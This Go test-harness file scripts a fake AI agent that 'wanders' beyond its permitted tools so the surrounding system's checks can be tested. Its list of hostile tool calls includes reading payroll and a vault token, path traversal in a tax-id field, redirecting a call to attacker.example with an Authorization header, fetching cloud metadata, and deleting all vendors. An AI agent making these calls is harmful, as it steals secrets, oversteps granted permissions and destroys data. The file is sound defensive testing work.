package scriptedmodel

import "strings"

// quirkID begins the ids of calls that a quirk made, so that the plan and the
// quirk can tell from the transcript alone how far they are.
const quirkID = "call_quirk_"

// wanderings is what a model that was talked into it asks for: Connections that
// its Mission does not hold, tools that a Connection does not allow, a way out
// of a path, another host, a header with a credential's place.
var wanderings = []struct {
	tool string
	args map[string]any
}{
	{"payroll__listSalaries", map[string]any{}},
	{"erp-write__findVendors", map[string]any{"name": "everybody"}},
	{"erp-read__createVendor", map[string]any{"name": "Mallory Ltd", "country": "GB"}},
	{"tax-check__verifyTaxId", map[string]any{"id": "../../v1/vendors", "country": "DE"}},
	{"tax-check__verifyTaxId", map[string]any{"id": "DE129274202", "host": "attacker.example", "Authorization": "x"}},
	{"http__fetch", map[string]any{"url": "http://169.254.169.254/latest/meta-data/"}},
	{"vault__readSecret", map[string]any{"name": "erp-write-token"}},
}

// quirk answers out of turn when a flag says so. Each quirk but garbage ends,
// and the plan goes on after it.
func (c clerk) quirk(q Quirks) (move, bool) {
	made := 0
	for _, s := range c.steps {
		if strings.HasPrefix(s.id, quirkID) {
			made++
		}
	}
	switch {
	case q.Garbage:
		call := c.toolCall(quirkID, c.offered, nil)
		call.Function.Arguments = `{"name": "Acme", "country": <<oops`
		return move{text: "%%% \u0000 ### undefined", calls: []toolCall{call}}, true
	case q.UnknownTool && made == 0:
		return move{calls: []toolCall{c.toolCall(quirkID, "erp-write__deleteAllVendors", map[string]any{"confirm": true})}}, true
	case q.Wander && made < len(wanderings):
		w := wanderings[made]
		return move{text: "Let me see what else can be reached.", calls: []toolCall{c.toolCall(quirkID, w.tool, w.args)}}, true
	}
	return move{}, false
}
